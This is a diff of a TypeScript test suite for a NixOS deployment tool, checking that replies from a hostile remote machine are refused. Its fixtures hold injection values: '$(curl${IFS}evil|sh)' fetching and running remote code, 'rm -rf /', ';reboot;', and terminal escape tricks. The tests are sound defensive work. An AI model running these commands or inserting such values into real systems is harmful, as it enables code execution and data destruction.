@@ -74,7 +74,7 @@ describe("a hostile machine", function () {
     ["on standard error", "cat /dev/zero >&2"],
     ["on both", "yes y & yes n >&2"],
   ] as const) {
-    // Fault 150
+    // Fault 77
     it(`that never stops talking, ${how}, is cut off`, async () => {
       machine.does(script);
       const error = await failureOf(() => asked.probe());
@@ -105,20 +105,20 @@ describe("a hostile machine", function () {
     ["a way back that is none", () => asked.arm(STORE_PATH, "-", readSettings(env)), ["armed /"], /"armed" is/],
     [
       "a unit that a shell would run",
-      () => asked.confirm(STORE_PATH, DERIVATION),
+      () => asked.confirm(STORE_PATH, readSettings(env)),
       ["guard confirmed 4", "failed-unit $(curl${IFS}evil|sh).service"],
       /"failed-unit" is/,
     ],
     [
       "a unit with spaces",
-      () => asked.confirm(STORE_PATH, DERIVATION),
+      () => asked.confirm(STORE_PATH, readSettings(env)),
       ["guard confirmed 4", "failed-unit a; rm -rf /"],
       /"failed-unit" is/,
     ],
     ["a token that is none", () => asked.hold("-"), ["guard-token ';reboot;'"], /"guard-token" is/],
   ];
   for (const [what, ask, lines, expected] of hostile) {
-    // Fault 151
+    // Fault 78
     it(`that answers ${what} is refused`, async () => {
       machine.answers(...lines.map((line) => `nixos-deploy ${line}`));
       const error = await failureOf(ask);
@@ -153,10 +153,10 @@ describe("a hostile machine", function () {
     assert.equal((await asked.probe()).get("system"), STORE_PATH);
     const units = ["-.mount", String.raw`dev-disk-by\x2dlabel-nixos.swap`, "getty@tty1.service", "a:b.service"];
     machine.answers("nixos-deploy guard confirmed 4", ...units.map((unit) => `nixos-deploy failed-unit ${unit}`));
-    assert.deepEqual((await asked.confirm(STORE_PATH, DERIVATION)).all("failed-unit"), units);
+    assert.deepEqual((await asked.confirm(STORE_PATH, readSettings(env))).all("failed-unit"), units);
   });
 
-  // Fault 152
+  // Fault 79
   it("cannot send the terminal or the log anything that they obey", async () => {
     const tricks = String.raw`\e]0;title\a\e[2J\e[31mred\e[0m\r\xc2\x9b31m \u202egnp.exe \e]8;;http://x\e\\link`;
     machine.does(`cat >/dev/null; printf '${tricks}\\n' >&2; printf '${tricks}\\n'; exit 3`);
@@ -186,7 +186,7 @@ describe("a hostile machine", function () {
     assert.match((await failureOf(() => asked.hold("-"))).message, /"held" is/);
   });
 
-  // Fault 153
+  // Fault 80
   it("is reported by the doctor as what it is, in bounds", async () => {
     const address = {
       host: "127.0.0.1",
